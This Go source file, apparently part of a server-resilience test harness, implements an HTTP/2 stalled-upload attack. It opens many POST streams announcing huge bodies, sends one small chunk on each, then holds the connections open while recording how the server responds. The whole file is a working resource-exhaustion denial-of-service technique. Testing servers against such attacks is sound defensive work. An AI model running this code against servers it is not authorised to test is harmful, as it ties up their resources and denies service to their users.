package hostile

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2StallConfig configures [H2StalledUploads].
type H2StallConfig struct {
	// Addr is the server's host:port (h2c by prior knowledge).
	Addr string
	// Path is the upload route (default "/upload").
	Path string
	// Conns is the number of connections (default 1).
	Conns int
	// Streams is the number of POST streams each connection opens
	// (default 100), whatever the server's MAX_CONCURRENT_STREAMS: those
	// beyond it show up as refused.
	Streams int
	// FirstChunk is the DATA each stream sends before it stalls (default
	// 1 KiB), sent as flow control allows.
	FirstChunk int
	// ContentLength is the length each request announces (default 1 GiB).
	ContentLength int64
	// Duration bounds the attack (0: until ctx is done). The connections
	// stay open, answering PING and SETTINGS, until then.
	Duration time.Duration
}

// Stream outcomes in H2Stream.Outcome besides "status N" and "reset CODE".
const (
	OutcomeOpen       = "open"        // the server had not ended it when the attack ended
	OutcomeConnClosed = "conn closed" // the server closed the connection
	OutcomeGoAway     = "goaway"      // above a GOAWAY's last stream ID
)

// H2Stream is one stream's outcome.
type H2Stream struct {
	Conn int
	ID   uint32
	// DataSent: the first chunk went out (flow control allowed it).
	DataSent bool
	// Outcome is what ended the stream first: "status N" (the response's
	// headers), "reset CODE" (RST_STREAM), or one of the Outcome
	// constants. At is when.
	Outcome string
	Status  int
	At      time.Duration
}

// H2StallResult is what [H2StalledUploads] returns.
type H2StallResult struct {
	Streams []H2Stream `json:"-"`
	Dialed  int
	Opened  int // HEADERS sent
	// Outcomes counts the streams by Outcome.
	Outcomes map[string]int
	// FirstEnd and LastEnd are when the server first and last ended a
	// stream (a response or a reset), if it did.
	FirstEnd, LastEnd time.Duration
	// ConnsClosed counts the connections the server closed, and when.
	ConnsClosed closeCount
	GoAways     []string `json:",omitempty"`
	// MaxConcurrentStreams is the server's setting (0: not sent).
	MaxConcurrentStreams uint32
	errorSummary
	Elapsed time.Duration
}

// H2StalledUploads opens cfg.Conns h2c connections (prior knowledge), and
// on each cfg.Streams POST streams to cfg.Path announcing a large
// content-length; each stream sends its first DATA chunk and then nothing.
// The connections stay open, acknowledging SETTINGS and PING as a client
// must, until the duration passes or ctx is done; each stream's outcome
// is recorded.
func H2StalledUploads(ctx context.Context, cfg H2StallConfig) H2StallResult {
	if cfg.Path == "" {
		cfg.Path = "/upload"
	}
	if cfg.Conns <= 0 {
		cfg.Conns = 1
	}
	if cfg.Streams <= 0 {
		cfg.Streams = 100
	}
	if cfg.FirstChunk <= 0 {
		cfg.FirstChunk = 1 << 10
	}
	if cfg.ContentLength <= 0 {
		cfg.ContentLength = 1 << 30
	}
	ctx, cancel := withDuration(ctx, cfg.Duration)
	defer cancel()
	start := time.Now()

	conns := make([]*h2Conn, cfg.Conns)
	errs := make([]string, cfg.Conns)
	fanOut(cfg.Conns, 0, func(i int) {
		var d net.Dialer
		dctx, dcancel := context.WithTimeout(ctx, handshakeTimeout)
		defer dcancel()
		c, err := d.DialContext(dctx, "tcp", cfg.Addr)
		if err != nil {
			errs[i] = err.Error()
			return
		}
		conns[i] = newH2Conn(i, c, start)
	}, func(i int) {
		if conns[i] != nil {
			if err := conns[i].run(ctx, cfg); err != nil {
				errs[i] = err.Error()
			}
		}
	})

	res := H2StallResult{Outcomes: map[string]int{}, Elapsed: time.Since(start)}
	for i, c := range conns {
		res.errorSummary.add(errs[i])
		if c == nil {
			continue
		}
		res.Dialed++
		res.ConnsClosed.add(c.closed, c.closedAt)
		res.GoAways = append(res.GoAways, c.goAways...)
		if res.MaxConcurrentStreams == 0 {
			res.MaxConcurrentStreams = c.maxStreams
		}
		for _, s := range c.order {
			res.Opened++
			if s.Outcome == "" {
				s.Outcome = OutcomeOpen
			}
			res.Outcomes[s.Outcome]++
			if s.Outcome != OutcomeOpen && s.Outcome != OutcomeConnClosed && s.Outcome != OutcomeGoAway {
				if res.FirstEnd == 0 || s.At < res.FirstEnd {
					res.FirstEnd = s.At
				}
				res.LastEnd = max(res.LastEnd, s.At)
			}
			res.Streams = append(res.Streams, *s)
		}
	}
	return res
}

// h2Conn is one attacking connection: a writer (run) and a reader
// (readLoop) sharing the framer, the flow-control windows and the streams.
type h2Conn struct {
	idx   int
	conn  net.Conn
	fr    *http2.Framer
	start time.Time
	wmu   sync.Mutex // serializes frame writes

	mu         sync.Mutex
	cond       *sync.Cond
	connWin    int64
	initWin    int64
	streamWin  map[uint32]int64
	streams    map[uint32]*H2Stream
	order      []*H2Stream
	maxStreams uint32
	settings   chan struct{} // closed at the server's first SETTINGS
	gotSetting bool
	dead       bool // the reader stopped
	closed     bool // by the server
	closedAt   time.Duration
	goAways    []string
}

func newH2Conn(idx int, c net.Conn, start time.Time) *h2Conn {
	h := &h2Conn{idx: idx, conn: c, start: start, connWin: 65535, initWin: 65535,
		streamWin: map[uint32]int64{}, streams: map[uint32]*H2Stream{}, settings: make(chan struct{})}
	h.cond = sync.NewCond(&h.mu)
	h.fr = http2.NewFramer(c, bufio.NewReaderSize(c, 64<<10))
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.fr.MaxHeaderListSize = 1 << 20
	return h
}

func (h *h2Conn) since() time.Duration { return time.Since(h.start) }

func (h *h2Conn) write(f func() error) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	_ = h.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	return f()
}

// run writes the preface and the streams, then holds the connection until
// ctx is done.
func (h *h2Conn) run(ctx context.Context, cfg H2StallConfig) error {
	stop := context.AfterFunc(ctx, func() {
		h.conn.Close()
		h.mu.Lock()
		h.cond.Broadcast()
		h.mu.Unlock()
	})
	defer stop()
	defer h.conn.Close()
	if _, err := h.conn.Write([]byte(http2.ClientPreface)); err != nil {
		return fmt.Errorf("preface: %w", err)
	}
	if err := h.write(func() error { return h.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}) }); err != nil {
		return fmt.Errorf("settings: %w", err)
	}
	done := make(chan struct{})
	go func() { defer close(done); h.readLoop(ctx) }()
	defer func() { h.conn.Close(); <-done }()
	select { // as a browser would, learn the server's settings first
	case <-h.settings:
	case <-time.After(2 * time.Second):
	case <-ctx.Done():
		return nil
	}

	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	chunk := bytes.Repeat([]byte{'u'}, cfg.FirstChunk)
	cl := strconv.FormatInt(cfg.ContentLength, 10)
	var pending []uint32
	for i := range cfg.Streams {
		id := uint32(2*i + 1)
		s := &H2Stream{Conn: h.idx, ID: id}
		h.mu.Lock()
		if h.dead {
			h.mu.Unlock()
			break
		}
		h.streams[id] = s
		h.order = append(h.order, s)
		h.streamWin[id] = h.initWin
		h.mu.Unlock()
		hbuf.Reset()
		for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", cfg.Addr},
			{":path", cfg.Path}, {"content-type", "application/octet-stream"}, {"content-length", cl}} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		err := h.write(func() error {
			return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true})
		})
		if err != nil {
			return h.writeErr(ctx, err)
		}
		if h.take(id, int64(len(chunk)), false) {
			if err := h.sendData(id, chunk); err != nil {
				return h.writeErr(ctx, err)
			}
		} else {
			pending = append(pending, id)
		}
	}
	// First chunks that flow control held back go out as it allows.
	for _, id := range pending {
		if !h.take(id, int64(len(chunk)), true) {
			continue // the stream or the connection ended
		}
		if err := h.sendData(id, chunk); err != nil {
			return h.writeErr(ctx, err)
		}
	}
	<-ctx.Done()
	return nil
}

func (h *h2Conn) sendData(id uint32, chunk []byte) error {
	err := h.write(func() error { return h.fr.WriteData(id, false, chunk) })
	if err == nil {
		h.mu.Lock()
		h.streams[id].DataSent = true
		h.mu.Unlock()
	}
	return err
}

// writeErr is nil when a write failed because the attack ended or the
// server closed the connection (the reader records that).
func (h *h2Conn) writeErr(ctx context.Context, err error) error {
	if ctx.Err() != nil {
		return nil
	}
	time.Sleep(100 * time.Millisecond) // let the reader see the close
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return nil
	}
	return fmt.Errorf("write: %w", err)
}

// take reserves n bytes of the connection's and stream id's send
// windows; with wait it waits until they allow it (false when the
// connection ends first, or the stream did), without it it fails at once.
func (h *h2Conn) take(id uint32, n int64, wait bool) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	for {
		s := h.streams[id]
		if h.dead || s.Outcome != "" {
			return false
		}
		if h.connWin >= n && h.streamWin[id] >= n {
			h.connWin -= n
			h.streamWin[id] -= n
			return true
		}
		if !wait {
			return false
		}
		h.cond.Wait()
	}
}

// end records a stream's outcome unless it has one.
func (h *h2Conn) end(id uint32, outcome string, status int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if s := h.streams[id]; s != nil && s.Outcome == "" {
		s.Outcome, s.Status, s.At = outcome, status, h.since()
		h.cond.Broadcast()
	}
}

// readLoop reads the server's frames: it answers SETTINGS and PING,
// tracks the send windows, gives back the receive window, and records
// how streams end.
func (h *h2Conn) readLoop(ctx context.Context) {
	defer func() {
		h.mu.Lock()
		h.dead = true
		if ctx.Err() == nil {
			h.closed, h.closedAt = true, h.since()
			for _, s := range h.order {
				if s.Outcome == "" {
					s.Outcome, s.At = OutcomeConnClosed, h.closedAt
				}
			}
		}
		h.cond.Broadcast()
		h.mu.Unlock()
	}()
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				continue
			}
			h.mu.Lock()
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				delta := int64(v) - h.initWin
				h.initWin = int64(v)
				for id := range h.streamWin {
					h.streamWin[id] += delta
				}
			}
			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
				h.maxStreams = v
			}
			first := !h.gotSetting
			h.gotSetting = true
			h.cond.Broadcast()
			h.mu.Unlock()
			if first {
				close(h.settings)
			}
			if h.write(h.fr.WriteSettingsAck) != nil {
				return
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				if h.write(func() error { return h.fr.WritePing(true, f.Data) }) != nil {
					return
				}
			}
		case *http2.WindowUpdateFrame:
			h.mu.Lock()
			if f.StreamID == 0 {
				h.connWin += int64(f.Increment)
			} else if _, ok := h.streamWin[f.StreamID]; ok {
				h.streamWin[f.StreamID] += int64(f.Increment)
			}
			h.cond.Broadcast()
			h.mu.Unlock()
		case *http2.MetaHeadersFrame:
			if st, err := strconv.Atoi(f.PseudoValue("status")); err == nil && st >= 200 {
				h.end(f.StreamID, "status "+strconv.Itoa(st), st)
			}
		case *http2.DataFrame:
			if n := uint32(len(f.Data())); n > 0 {
				id := f.StreamID
				err := h.write(func() error {
					if err := h.fr.WriteWindowUpdate(0, n); err != nil || f.StreamEnded() {
						return err
					}
					return h.fr.WriteWindowUpdate(id, n)
				})
				if err != nil {
					return
				}
			}
		case *http2.RSTStreamFrame:
			h.end(f.StreamID, "reset "+f.ErrCode.String(), 0)
		case *http2.GoAwayFrame:
			h.mu.Lock()
			h.goAways = append(h.goAways, fmt.Sprintf("GOAWAY %v last=%d at %v", f.ErrCode, f.LastStreamID, h.since().Round(time.Millisecond)))
			for _, s := range h.order {
				if s.ID > f.LastStreamID && s.Outcome == "" {
					s.Outcome, s.At = OutcomeGoAway, h.since()
				}
			}
			h.cond.Broadcast()
			h.mu.Unlock()
		}
	}
}
